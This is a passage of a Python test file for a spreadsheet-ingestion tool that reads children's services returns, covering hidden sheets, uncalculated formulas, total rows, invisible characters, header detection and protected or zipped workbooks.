"""Files as they come: several lists on a sheet, hidden parts, formulas never calculated, rows that are no records, packing.

Each workbook of tests/cases stands for a kind; beside it are other cases of the kind, made here.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
import xlwt
from hypothesis import given, settings
from hypothesis import strategies as st
from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl.worksheet.protection import SheetProtection

from data.findings.arriving.trying import try_returns
from data.findings.finding import Finding
from data.returns import ReturnRefused
from data.returns.invisible import visible
from data.returns.marked_copy import marked_copy
from data.returns.opening import open_workbook
from data.returns.problems import LoadReport, Problem
from data.returns.reader_process import hidden_and_uncalculated
from data.safe_text import csv_file, safe_text
from data.store import Store
from data.store.return_file import fingerprint_of
from tests.workbooks import (
    ASSESSMENTS,
    CONTACTS,
    REFERRALS,
    assessment,
    contact,
    list_sheet,
    panel_sheet,
    referral,
    workbook,
)

CASES = Path(__file__).parents[1] / "cases"
TO = date(2022, 12, 31)
TWELVE = tuple(
    contact(str(7000 + n), day)
    for n, day in enumerate(
        f"2022-{month:02d}-{day:02d}"
        for month, days in ((10, (3, 10, 17, 24, 31)), (11, (7, 14, 21, 28)), (12, (5, 12, 19)))
        for day in days
    )
)
"""The base list of the cases: 5 contacts in October 2022, 4 in November, 3 in December."""

EIGHT = tuple(referral(str(7200 + n), f"2022-11-{n + 1:02d}") for n in range(8))
BASE, BLANK = [5.0, 4.0, 3.0], [None]
Rows = Sequence[Sequence[object]]
EMPTY = Store(885)
"""A store for previews, which change nothing."""


def case(name: str) -> bytes:
    """A workbook of tests/cases."""
    return (CASES / f"{name}.xlsx").read_bytes()


def rows_of_list(name: str, *records: dict[str, object], title: bool = True) -> Rows:
    """The rows of a list, by its layout's name, with its title row or without."""
    return list_sheet(
        {"contacts": CONTACTS, "referrals": REFERRALS, "assessments": ASSESSMENTS}[name],
        *records,
        title=title,
    )[1]


def contacts_by_month(store: Store) -> list[float]:
    """Contacts of October to December 2022."""
    return store.measure("contacts", "month", 3)["value"].tolist()


def asks(report: LoadReport) -> list[Problem]:
    """What a report asks."""
    return [problem for problem in report.problems if problem.severity == "ask"]


def account(report: LoadReport, name: str) -> tuple[int, int, dict[str, int]]:
    """Rows read, used and left out of a list."""
    sheet = next(sheet for sheet in report.sheets if sheet.list == name)
    return sheet.rows_read, sheet.rows_used, sheet.rows_left_out


def finding(store: Store, content: bytes, name: str) -> Finding:
    """What the trial of a previewed file finds under that name."""
    store.preview("a.xlsx", content, TO)
    found = try_returns(store, [("a.xlsx", content, TO)]).tried[fingerprint_of(content)].findings
    return next(one for one in found if one.id == name)


def changed(content: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """The workbook with the text of one part changed."""
    copy = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(copy, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            text = old.read(name)
            new.writestr(name, change(text.decode()).encode() if name == part else text)
    return copy.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


# Several lists on one sheet


def test_the_case_of_two_lists_on_a_sheet(store: Store) -> None:
    report = store.load("a.xlsx", case("two-lists-on-a-sheet"), TO)
    assert contacts_by_month(store) == BASE
    assert store.measure("referrals", periods=1)["value"].tolist() == [8]
    assert account(report, "contacts")[:2] == (12, 12)
    assert [sheet.header_row for sheet in report.sheets] == [2, 17]


@pytest.mark.parametrize("title", [True, False])
@pytest.mark.parametrize("blank_rows", [0, 1, 3])
def test_lists_one_below_the_other_are_read_each_by_itself(
    store: Store, title: bool, blank_rows: int
) -> None:
    blank = [BLANK] * blank_rows
    three = [
        *rows_of_list("contacts", *TWELVE, title=title),
        *blank,
        *rows_of_list("referrals", *EIGHT, title=title),
        *blank,
        *rows_of_list("assessments", assessment("9", "2022-10-03", "2022-11-01"), title=title),
    ]
    report = store.load("a.xlsx", workbook(("Front door", three)), TO)
    assert contacts_by_month(store) == BASE
    assert store.measure(["assessments_completed", "referrals"], periods=1)["value"].tolist() == [1, 8]
    assert {sheet.list: (sheet.rows_read, sheet.rows_used) for sheet in report.sheets} == {
        "contacts": (12, 12),
        "referrals": (8, 8),
        "assessments": (1, 1),
    }


def test_problems_of_a_lower_list_name_its_true_rows_in_report_and_marked_copy(store: Store) -> None:
    rows = [
        *rows_of_list("contacts", *TWELVE),
        BLANK,
        *rows_of_list("referrals", *EIGHT, referral("7300", "rubbish")),
    ]
    content = workbook(("Front door", rows))
    report = store.preview("a.xlsx", content, TO)
    problem = next(problem for problem in report.problems if problem.found == "rubbish")
    assert (problem.row, problem.column) == (2 + 12 + 1 + 2 + 9, "Date of referral")
    sheet = openpyxl.load_workbook(io.BytesIO(marked_copy("a.xlsx", content, report)))["Front door"]
    marked = sheet.cell(26, 6)
    assert marked.value == "rubbish"
    assert marked.comment is not None and "is not a date" in marked.comment.text


@pytest.mark.parametrize("gap", [0, 1, 2])
@pytest.mark.parametrize("lower_by", [0, 1])
def test_lists_side_by_side_are_read_each_by_itself(store: Store, gap: int, lower_by: int) -> None:
    left, right = (
        rows_of_list("contacts", *TWELVE, title=False),
        [[None]] * lower_by + list(rows_of_list("referrals", *EIGHT, title=False)),
    )
    rows = []
    for number in range(max(len(left), len(right))):
        one = list(left[number]) if number < len(left) else []
        one += [None] * (7 + gap - len(one))
        rows.append(one + (list(right[number]) if number < len(right) else []))
    report = store.load("a.xlsx", workbook(("Both", rows)), TO)
    assert contacts_by_month(store) == BASE
    assert store.measure("referrals", periods=1)["value"].tolist() == [8]
    assert sum(sheet.rows_used for sheet in report.sheets) == 20


def test_an_excel_error_is_told_of_the_list_it_stands_in(store: Store) -> None:
    rows = [*rows_of_list("contacts", *TWELVE), BLANK, *rows_of_list("referrals", *EIGHT)]
    content = changed(
        workbook(("Front door", rows)),
        SHEET,
        lambda text: re.sub(r'<c r="F19".*?</c>', '<c r="F19" t="e"><v>#REF!</v></c>', text),
    )
    report = store.preview("a.xlsx", content, TO)
    assert [
        (problem.column, problem.rows) for problem in report.problems if problem.found == "an Excel error"
    ] == [("Date of referral", (19,))]


def test_headers_again_in_the_middle_of_a_list_start_no_other_list(store: Store) -> None:
    rows = rows_of_list("contacts", *TWELVE, title=False)
    report = store.load("a.xlsx", workbook(("List 1", [*rows[:6], rows[0], *rows[6:]])), TO)
    assert account(report, "contacts") == (13, 12, {"repeated header": 1})
    assert contacts_by_month(store) == BASE


def test_a_list_in_sections_with_titles_headers_and_totals_of_their_own_is_one_list(store: Store) -> None:
    headers, *body = rows_of_list("contacts", *TWELVE, title=False)
    rows = [
        ["Team A"],
        headers,
        *body[:6],
        ["Total", None, None, 6],
        BLANK,
        ["Team B"],
        headers,
        *body[6:],
        ["Total", 6],
        ["Grand total", 12],
    ]
    report = store.load("a.xlsx", workbook(("List 1", rows)), TO)
    assert account(report, "contacts") == (
        18,
        12,
        {"footer or total row": 4, "blank row": 1, "repeated header": 1},
    )
    assert contacts_by_month(store) == BASE


def test_the_same_list_again_with_its_columns_in_another_order_is_read_by_its_own_headers(
    store: Store,
) -> None:
    rows = rows_of_list("contacts", *TWELVE, title=False)
    other = [list(reversed(row)) for row in [rows[0], *rows[7:]]]
    store.load("a.xlsx", workbook(("List 1", [*rows[:7], *other])), TO)
    assert contacts_by_month(store) == BASE


def test_the_trial_says_which_lists_share_a_sheet(store: Store) -> None:
    told = finding(store, case("two-lists-on-a-sheet"), "several lists Front door")
    assert (
        "List 1 with its headers on row 2, 12 of 12 rows used; List 3 with its headers on row 17, 8 of 8 rows used"
        in told.sentence
    )


@settings(max_examples=6, deadline=None, derandomize=True)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["contacts", "referrals"]), st.integers(1, 4), st.integers(0, 2), st.booleans()
        ),
        min_size=1,
        max_size=5,
    )
)
def test_whatever_lists_share_a_sheet_each_record_is_counted_in_its_own(
    parts: list[tuple[str, int, int, bool]],
) -> None:
    rows: list[Sequence[object]] = []
    wanted = {"contacts": 0, "referrals": 0}
    child = 1000
    for name, count, blank_rows, title in parts:
        make = contact if name == "contacts" else referral
        rows += [
            *rows_of_list(name, *(make(str(child + n), "2022-11-03") for n in range(count)), title=title),
            *[BLANK] * blank_rows,
        ]
        wanted[name] += count
        child += count
    report = EMPTY.preview("a.xlsx", workbook(("Lists", rows)), TO)
    used = {name: sum(sheet.rows_used for sheet in report.sheets if sheet.list == name) for name in wanted}
    assert used == wanted


# Formulas that were never calculated


def test_the_case_of_formulas_never_calculated(store: Store) -> None:
    report = store.load("a.xlsx", case("formulas-never-calculated"), TO)
    asked = [(problem.column, problem.rows) for problem in asks(report)]
    assert asked == [("Date of Contact", (11, 12, 13, 14))]
    assert not any(
        "Fill it in" in problem.message and problem.column == "Date of Contact" for problem in report.problems
    )
    told = finding(Store(885), case("formulas-never-calculated"), "uncalculated List_1 Date of Contact")
    assert (told.severity, told.count) == ("ask", 4)
    assert "Open the workbook in Excel" in told.sentence
    assert all(choice.keeps_out or choice.needs_reason for choice in told.choices)


def written_by_openpyxl() -> bytes:
    """Two of three dates are formulas; openpyxl stores no results."""
    return workbook(
        list_sheet(CONTACTS, contact("1", "2022-10-03"), contact("2", "=F3+7"), contact("3", "=F4+7"))
    )


def written_by_hand(cells: str, root: str = "worksheet", space: str = "") -> Callable[[], bytes]:
    """Row 4's date as that XML."""
    content = workbook(
        list_sheet(CONTACTS, contact("1", "2022-10-03"), contact("2", "2022-10-04"), contact("3", "=F4"))
    )

    def make() -> bytes:
        made = changed(content, SHEET, lambda text: re.sub(r'<c r="F4".*?</c>', cells, text))
        return (
            changed(
                made,
                SHEET,
                lambda text: re.sub(r"(</?)(\w)", rf"\1{space}\2", text).replace(
                    "xmlns=", f"xmlns:{space[:-1]}="
                ),
            )
            if space
            else made
        )

    return make


@pytest.mark.parametrize(
    ("make", "rows"),
    [
        (written_by_openpyxl, (4, 5)),
        (written_by_hand('<c r="F4" s="1"><f>F3+7</f></c>'), (4, 5)),
        (written_by_hand('<c r="F4" s="1"><f aca="false">F3+7</f><v></v></c>'), (4, 5)),
        (written_by_hand('<c r="F4" t="shared"><f t="shared" si="0"/></c>'), (4, 5)),
        (written_by_hand('<c r="F4"><f t="shared" ref="F4:F5" si="0">F3+7</f><v/></c>'), (4, 5)),
        (written_by_hand('<c r="F4" t="str"><f>IF(1,"","x")</f></c>'), (4, 5)),
        (written_by_hand('<c r="F4" t="str"><f>IF(1,"","x")</f><v></v></c>'), (5,)),
        (written_by_hand('<c r="F4" t="n"><f>F3+7</f><v>44838</v></c>'), (5,)),
        (written_by_hand("<c r='F4'\n><f>F3+7</f>\n</c>"), (4, 5)),
        (written_by_hand('<c r="F4"><f>F3+7</f></c>', space="x:"), (4, 5)),
    ],
)
def test_cells_without_a_stored_result_are_asked_about(
    store: Store, make: Callable[[], bytes], rows: tuple[int, ...]
) -> None:
    report = store.preview("a.xlsx", make(), TO)
    asked = [problem.rows for problem in asks(report) if problem.found == "formulas without a stored result"]
    assert asked == [rows]


def test_places_are_found_without_references_too() -> None:
    part = (
        b'<worksheet><cols><col min="2" max="3" hidden="1"/></cols><sheetData><row><c><v>1</v></c></row>'
        b'<row hidden="true"><c/><c><f>A1</f></c></row><row ht="0"><c t="str"><f>A1</f><v/></c></row></sheetData></worksheet>'
    )
    assert hidden_and_uncalculated(part) == {"rows": [[1, 2]], "columns": [[1, 2]], "uncalculated": [[1, 1]]}


def test_a_workbook_of_formulas_alone_says_so(store: Store) -> None:
    rows = [[f"='other'!{letter}{number}" for letter in "ABCDEFG"] for number in range(1, 6)]
    with pytest.raises(ReturnRefused, match="result is not stored"):
        store.load("a.xlsx", workbook(("List_1", rows)), TO)


# Hidden sheets, rows and columns


def with_hidden(state: str) -> bytes:
    """A visible List 1 and an older copy on a hidden sheet that comes first."""
    old = list_sheet(CONTACTS, contact("8000", "2022-10-05"), contact("8001", "2022-11-05"))
    book = openpyxl.load_workbook(io.BytesIO(workbook(("Old", old[1]), list_sheet(CONTACTS, *TWELVE))))
    book["Old"].sheet_state = state
    book.active = 1
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def test_the_case_of_a_hidden_old_copy(store: Store) -> None:
    report = store.load("a.xlsx", case("hidden-old-copy"), TO)
    assert contacts_by_month(store) == BASE
    assert [sheet.rows_left_out for sheet in report.sheets] == [{}, {"hidden sheet, not counted": 8}]
    assert ["very hidden" in problem.message for problem in asks(report)] == [True]


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_second_sheet_is_counted_only_when_said_so(state: str) -> None:
    store, content = Store(885), with_hidden(state)
    told = finding(store, content, "hidden sheet Old")
    assert told.severity == "ask"
    count, leave_out = told.choices[:2]
    store.remembered.remember(count.remembers)
    assert finding(store, content, "hidden sheet Old").choices[:2] == (count, leave_out)
    store.load("a.xlsx", content, TO)
    assert contacts_by_month(store) == [6, 5, 3]
    store.forget()
    store.remembered.remember(leave_out.remembers)
    store.load("a.xlsx", content, TO)
    assert contacts_by_month(store) == BASE


def test_the_only_sheet_of_a_list_is_counted_and_asked_about_when_it_is_hidden(store: Store) -> None:
    book = openpyxl.load_workbook(
        io.BytesIO(workbook(list_sheet(CONTACTS, *TWELVE), list_sheet(REFERRALS, *EIGHT)))
    )
    book["List_3"].sheet_state = "hidden"
    content = io.BytesIO()
    book.save(content)
    report = store.load("a.xlsx", content.getvalue(), TO)
    assert store.measure("referrals", periods=1)["value"].tolist() == [8]
    assert any("“List_3” (List 3) is hidden in Excel" in problem.message for problem in asks(report))


def test_hidden_rows_are_asked_about_and_can_be_left_out(store: Store) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(list_sheet(CONTACTS, *TWELVE))))
    for row in (3, 4, 14, 300):
        book["List_1"].row_dimensions[row].hidden = True
    book["List_1"].auto_filter.ref = "A2:G14"
    content = io.BytesIO()
    book.save(content)
    told = finding(store, content.getvalue(), "hidden rows List_1")
    assert (told.severity, told.count) == ("ask", 3)
    assert "rows 3, 4 and 14" in told.sentence
    store.remembered.remember(told.choices[1].remembers)
    assert finding(store, content.getvalue(), "hidden rows List_1").count == 3
    report = store.load("a.xlsx", content.getvalue(), TO)
    assert account(report, "contacts") == (12, 9, {"hidden row": 3})
    assert contacts_by_month(store) == [3, 4, 2]


def test_what_was_said_of_hidden_rows_is_kept_with_the_session(store: Store) -> None:
    store.remembered.remember([("hidden", "f" * 64, "List_1", "rows", "left out")])
    other = Store(885)
    other.remembered.add_kept(store.notes.as_kept(store.returns).remembered)
    assert other.remembered.hidden == {("f" * 64, "List_1", "rows"): "left out"}
    other.remembered.forget([("hidden", "f" * 64, "List_1", "rows", "left out")])
    assert other.remembered.hidden == {}


def test_a_hidden_column_of_a_list_is_asked_about(store: Store) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(list_sheet(CONTACTS, *TWELVE))))
    book["List_1"].column_dimensions["F"].hidden = True
    content = io.BytesIO()
    book.save(content)
    told = finding(store, content.getvalue(), "hidden column List_1 Date of Contact")
    assert told.severity == "ask"
    assert "hidden in Excel" in told.sentence


def test_hidden_sheets_of_legacy_workbooks_are_seen(store: Store) -> None:
    book = xlwt.Workbook()
    for name, records in (("List_1", TWELVE), ("Old", TWELVE[:2])):
        sheet = book.add_sheet(name)
        for number, row in enumerate(rows_of_list("contacts", *records)):
            for column, value in enumerate(row):
                sheet.write(number, column, value)
    sheet.visibility = 1
    content = io.BytesIO()
    book.save(content)
    report = store.preview("a.xls", content.getvalue(), TO)
    assert [(one.hidden, one.rows_used) for one in report.sheets] == [("", 12), ("hidden", 0)]


# Rows that are no records


def test_the_case_of_lines_under_the_rows(store: Store) -> None:
    report = store.load("a.xlsx", case("lines-under-the-rows"), TO)
    assert account(report, "contacts") == (14, 12, {"blank row": 1, "footer or total row": 1})
    assert account(report, "care_leavers") == (16, 12, {"blank row": 1, "footer or total row": 3})
    assert not any("Nothing to do" in problem.message for problem in report.problems)


@pytest.mark.parametrize(
    "line",
    [
        ["12 records"],
        ["Run by A Person on 09/01/2023 10:15"],
        ["OFFICIAL - SENSITIVE"],
        ["Official"],
        ["CONFIDENTIAL"],
        ["Total", None, None, 12],
        ["Grand total: 12"],
        ["Subtotal Team A", None, None, None, None, None, 4],
        ["12"],
        ["09/01/2023"],
        ["2023-01-09 00:00:00"],
        ["9 January 2023 10:15"],
        ["-----"],
        ["~~~~~~"],
        ["* excludes contacts from other councils"],
        ["Note: figures are provisional"],
        ["Applied filters: Team is A"],
        ["No data"],
        ["No records found"],
        ["Nil return"],
        ["Page 1 of 3"],
        ["Count of Child Unique ID", 12],
        ["Report run", "09/01/2023 10:15"],
        ["Printed on", None, "09/01/2023"],
        ["End of report"],
        ["Source", "Case system"][:1],
        ["Contacts that were recorded before the change of system"],
        ["Testshire"],
        [None, "Total"],
        [None, None, "12 records"],
        ["\u200bTotal"],
        ["Data as at 31/12/2022"],
        ["Generated by: Reporting", None, None, "2022-12-31"],
        ["Number of rows: 12"],
        ["Rows returned 12"],
        ["Total", 12, 12, 12, 12, 12, 12],
        ["Average", None, None, None, 7.5, None, 3],
        ["October total", None, None, None, None, None, 5],
        ["Month", "Contacts"],
        ["Oct", 5],
        ["Printed", "09/01/2023"],
    ],
)
@pytest.mark.parametrize("place", ["under", "among"])
def test_lines_that_are_no_records_are_left_out_and_counted(line: list[object], place: str) -> None:
    _, rows = list_sheet(CONTACTS, *TWELVE)
    rows = [*rows, BLANK, line] if place == "under" else [*rows[:14], line, *rows[14:]]
    report = EMPTY.preview("a.xlsx", workbook(("List_1", rows)), TO)
    _, used, left_out = account(report, "contacts")
    assert used == 12
    assert sum(left_out.values()) == (2 if place == "under" else 1)
    assert next(problem for problem in report.problems if problem.found == "footer or total row").rows[0] == (
        16 if place == "under" else 15
    )


@pytest.mark.parametrize(
    "ids",
    [
        ["always", "never", "sometimes"],
        ["child 1", "child 2", "child 3"],
        ["Total", "Page", "Official"],
        ["record 1", "record 2", "record 3"],
        ["Mary-Ann", "No data", "12 records"],
        ["1", "2", "3"],
        ["end", "key 1", "*1"],
    ],
)
def test_a_record_is_never_left_out_for_its_id(store: Store, ids: list[str]) -> None:
    report = store.load(
        "a.xlsx", workbook(list_sheet(CONTACTS, *(contact(child, "2022-11-03") for child in ids))), TO
    )
    assert account(report, "contacts") == (3, 3, {})


@pytest.mark.parametrize(
    ("ids", "bare"),
    [
        (["7000", "7001", "7002"], "7003"),
        (["child 1", "child 2", "child 3"], "child 4"),
        (["record 1", "record 2", "record 3"], "record 4"),
        (["always", "never", "seldom"], "often"),
        (["A12", "B13", "C14"], "D15"),
        (["7000", "A12", "C14"], "X1"),
    ],
)
def test_a_row_of_an_id_alone_that_looks_like_the_others_stays_a_record(
    store: Store, ids: list[str], bare: str
) -> None:
    _, rows = list_sheet(CONTACTS, *(contact(child, "2022-11-03") for child in ids))
    report = store.load("a.xlsx", workbook(("List_1", [*rows, [bare]])), TO)
    assert account(report, "contacts") == (4, 4, {})


@pytest.mark.parametrize(
    "guidance",
    [
        [1, 2, 3, 4, 5, 6, 7],
        list("abcdefg"),
        ["Text", "Code", "Code", "dd/mm/yyyy", "Number", "dd/mm/yyyy", "Code"],
    ],
)
def test_guidance_under_the_headers_is_no_record(store: Store, guidance: list[object]) -> None:
    _, rows = list_sheet(CONTACTS, *TWELVE)
    report = store.load("a.xlsx", workbook(("List_1", [*rows[:2], guidance, *rows[2:]])), TO)
    assert account(report, "contacts") == (13, 12, {"guidance under the headers": 1})


def test_a_total_under_a_sheet_of_the_panel_return_is_left_out(store: Store) -> None:
    from data.returns import panel

    sheet = panel_sheet(panel.FEEDBACK, ["Q3 2022/23", "Survey", 5], ["Printed on 09/01/2023"])
    report = store.preview("a.xlsx", workbook(sheet), TO)
    assert account(report, "feedback") == (2, 1, {"footer or total row": 1})


# Invisible characters


def test_the_case_of_invisible_characters(store: Store) -> None:
    report = store.load("a.xlsx", case("invisible-characters"), TO)
    assert contacts_by_month(store) == BASE
    by_source = store.measure("contacts", periods=1, by="source")
    assert by_source[by_source["value"] > 0][["group", "value"]].to_numpy().tolist() == [["Police", 12]]
    assert account(report, "contacts") == (14, 12, {"exact duplicate of another row": 2})
    assert asks(report) == []


UNSEEN = "\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2060\ufeff\u00ad\u061c\u180e\u2066\u2069\ufe0f"
SPACES = "\u00a0\u2000\u2003\u2009\u202f\u205f\u3000\t\n"


@pytest.mark.parametrize("sign", [*UNSEEN, *SPACES])
def test_no_invisible_character_makes_another_child_date_or_code(store: Store, sign: str) -> None:
    rows = [list(row) for row in rows_of_list("contacts", *TWELVE, title=False)]
    rows[0] = [f"{sign}{header}{sign}" for header in rows[0]]
    for position in (0, 3, 5, 6):
        rows[4][position] = f"{sign}{rows[4][position]}{sign}"
    rows.append([f"{value}{sign}" for value in rows[1]])
    report = store.load("a.xlsx", workbook((f"List_1{sign}" if sign not in "\t\n" else "List_1", rows)), TO)
    assert contacts_by_month(store) == BASE
    assert [sheet.name for sheet in report.sheets] == ["List_1"]
    assert [
        problem
        for problem in report.problems
        if problem.found != "exact duplicate of another row" and problem.sheet == "List_1"
    ] == []


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.text(st.sampled_from("aB7 -" + UNSEEN), max_size=12))
def test_visible_text_keeps_all_that_is_seen(text: str) -> None:
    assert visible(text) == "".join(sign for sign in text if sign not in UNSEEN).strip()


def test_a_marked_copy_finds_a_sheet_whose_name_has_invisible_characters(store: Store) -> None:
    content = workbook(("List\u200b_1", rows_of_list("contacts", *TWELVE, contact("1", "rubbish"))))
    report = store.preview("a.xlsx", content, TO)
    assert report.sheets[0].name == "List_1"
    book = openpyxl.load_workbook(io.BytesIO(marked_copy("a.xlsx", content, report)))
    assert book["List\u200b_1"].cell(15, 6).comment is not None


# Headers


def test_the_case_of_headers_on_row_14(store: Store) -> None:
    report = store.load("a.xlsx", case("headers-on-row-14-alone"), TO)
    assert contacts_by_month(store) == BASE
    assert report.sheets[0].header_row == 14


@pytest.mark.parametrize("above", [9, 10, 29, 45, 400])
def test_headers_further_down_are_read(store: Store, above: int) -> None:
    parameters = [[f"Parameter {n}:", None, "value"] for n in range(above)]
    report = store.load(
        "a.xlsx", workbook(("List_1", [*parameters, *rows_of_list("contacts", *TWELVE, title=False)])), TO
    )
    assert contacts_by_month(store) == BASE
    assert report.sheets[0].header_row == above + 1


def test_headers_split_over_two_rows_or_lines_are_read(store: Store) -> None:
    split = [
        ["Child", "Gender", "Ethnicity", "Date of", "Age of Child", "Date of", "Contact"],
        ["Unique ID", None, None, "Birth", "(Years)", "Contact", "Source"],
    ]
    body = rows_of_list("contacts", *TWELVE, contact("9", "rubbish"), title=False)[1:]
    content = workbook(("List_1", [["Contacts"], *split, *body]))
    report = store.load("a.xlsx", content, TO)
    assert contacts_by_month(store) == BASE
    assert report.sheets[0].header_row == 3
    sheet = openpyxl.load_workbook(io.BytesIO(marked_copy("a.xlsx", content, report)))["List_1"]
    assert sheet.cell(16, 6).comment is not None
    store.forget()
    lines = [
        "Child\nUnique ID",
        "Gender",
        "Ethnicity",
        "Date of\r\nBirth",
        "Age of Child\n(Years)",
        "Date of\nContact",
        "Contact\nSource",
    ]
    store.load("a.xlsx", workbook(("List_1", [lines, *body])), TO)
    assert contacts_by_month(store) == BASE


def test_a_file_without_headers_says_where_they_must_stand(store: Store) -> None:
    with pytest.raises(ReturnRefused, match="headers must stand in one row, within the first 30"):
        store.load("a.xlsx", workbook(("List_1", rows_of_list("contacts", *TWELVE)[2:])), TO)


# Protected and packed


GOOD = workbook(list_sheet(CONTACTS, *TWELVE))


def test_the_case_of_a_sensitivity_label() -> None:
    with pytest.raises(ReturnRefused) as refused:
        Store(885).load("a.xlsx", case("sensitivity-label"))
    assert "sensitivity label or rights management" in str(refused.value)
    assert "locked with a password" not in str(refused.value)


def ole(*names: str) -> bytes:
    """An older Office container as far as its directory's names go."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"".join(
        name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *names)
    )


@pytest.mark.parametrize(
    ("names", "words"),
    [
        (("EncryptedPackage", "\x06DataSpaces", "DRMEncryptedDataSpace"), "sensitivity label"),
        (
            ("EncryptedPackage", "EncryptionInfo", "\x06DataSpaces", "DRMEncryptedTransform"),
            "sensitivity label",
        ),
        (("EncryptedPackage", "\x06DataSpaces", "LabelInfo"), "sensitivity label"),
        (("Workbook", "\x09DRMContent"), "sensitivity label"),
        (
            ("EncryptedPackage", "EncryptionInfo", "\x06DataSpaces", "StrongEncryptionDataSpace"),
            "locked with a password",
        ),
        (("EncryptedPackage", "EncryptionInfo"), "locked with a password"),
        (("WordDocument",), "older Office file"),
    ],
)
def test_protected_containers_get_the_sentence_of_their_kind(names: tuple[str, ...], words: str) -> None:
    report = EMPTY.preview("a.xlsx", ole(*names))
    assert not report.accepted
    assert words in report.problems[0].message
    assert ("clear the password" in report.problems[0].message) == (words == "locked with a password")


def test_a_password_is_still_a_password() -> None:
    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(GOOD)).encrypt("secret", locked)
    assert "locked with a password" in EMPTY.preview("a.xlsx", locked.getvalue()).problems[0].message


def protected() -> bytes:
    """Structure and sheet protected, to be opened read-only."""
    book = openpyxl.load_workbook(io.BytesIO(GOOD))
    book.security.lockStructure = True
    book.security.workbookPassword = "x"
    book["List_1"].protection = SheetProtection(sheet=True, password="x")
    content = io.BytesIO()
    book.save(content)
    return changed(
        content.getvalue(),
        "xl/workbook.xml",
        lambda text: text.replace("<workbookPr", '<fileSharing readOnlyRecommended="1"/><workbookPr'),
    )


def strict() -> bytes:
    """The same in the strict variant, its dates as ISO texts."""
    content = io.BytesIO()
    spaces = (
        (
            "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            "http://purl.oclc.org/ooxml/spreadsheetml/main",
        ),
        (
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            "http://purl.oclc.org/ooxml/officeDocument/relationships",
        ),
    )
    with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(content, "w") as new:
        for name in old.namelist():
            text = old.read(name).decode()
            for loose, narrow in spaces:
                text = text.replace(loose, narrow)
            new.writestr(name, text)
    return content.getvalue()


def zip64() -> bytes:
    """Every part with the sizes of large files."""
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            with new.open(name, "w", force_zip64=True) as part:
                part.write(old.read(name))
    return content.getvalue()


class Unseekable(io.BytesIO):
    """A stream that is written once: sizes follow the data."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_: int) -> int:
        raise OSError

    def tell(self) -> int:
        raise OSError


def data_descriptors() -> bytes:
    """Sizes and checksums after each part, as programs that stream write it."""
    content = Unseekable()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return content.getvalue()


def zipped(name: str, *more: str) -> bytes:
    """The workbook as a file in a zip archive."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for one in (name, *more):
            archive.writestr(one, GOOD if one.endswith(".xlsx") else b"")
    return content.getvalue()


def in_a_folder() -> bytes:
    """Its parts in a folder."""
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(content, "w") as new:
        new.writestr("return/", b"")
        for name in old.namelist():
            new.writestr(f"return/{name}", old.read(name))
    return content.getvalue()


def with_folders() -> bytes:
    """An archive that lists its folders too."""
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(content, "w") as new:
        for name in ("_rels/", "xl/", "xl/worksheets/", *old.namelist()):
            new.writestr(name, b"" if name.endswith("/") else old.read(name))
    return content.getvalue()


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("protected.xlsx", protected),
        ("strict.xlsx", strict),
        ("zip64.xlsx", zip64),
        ("streamed.xlsx", data_descriptors),
        ("one.zip", lambda: zipped("return.xlsx")),
        ("folder.zip", lambda: zipped("a folder/", "a folder/return.xlsx", "__MACOSX/._return.xlsx")),
        ("parts.xlsx", in_a_folder),
        ("folders.xlsx", with_folders),
        ("named.xls", lambda: GOOD),
    ],
)
def test_what_excel_opens_is_read(store: Store, name: str, make: Callable[[], bytes]) -> None:
    content = make()
    report = store.load(name, content, TO)
    assert contacts_by_month(store) == BASE
    assert marked_copy(name, content, report).startswith(b"PK")


def test_a_legacy_workbook_named_xlsx_is_read(store: Store) -> None:
    book = xlwt.Workbook()
    sheet = book.add_sheet("List_1")
    for number, row in enumerate(rows_of_list("contacts", *TWELVE)):
        for column, value in enumerate(row):
            sheet.write(number, column, value)
    content = io.BytesIO()
    book.save(content)
    store.load("a.xlsx", content.getvalue(), TO)
    assert contacts_by_month(store) == BASE


def test_an_archive_of_several_workbooks_is_refused_with_its_sentence() -> None:
    message = EMPTY.preview("a.zip", zipped("one.xlsx", "two.xlsx")).problems[0].message
    assert "zip archive of 2 workbooks (“one.xlsx”, “two.xlsx” …). Unpack it" in message


# Text that would run as a formula


@pytest.mark.parametrize("name", ["formula text", "formula text odd"])
def test_the_cases_of_formula_text_in_a_marked_copy(store: Store, name: str) -> None:
    content = case(f"formula-text-in-marked-copy {name}")
    report = store.preview("a.xlsx", content, TO)
    copy = marked_copy("a.xlsx", content, report)
    book = openpyxl.load_workbook(io.BytesIO(copy))
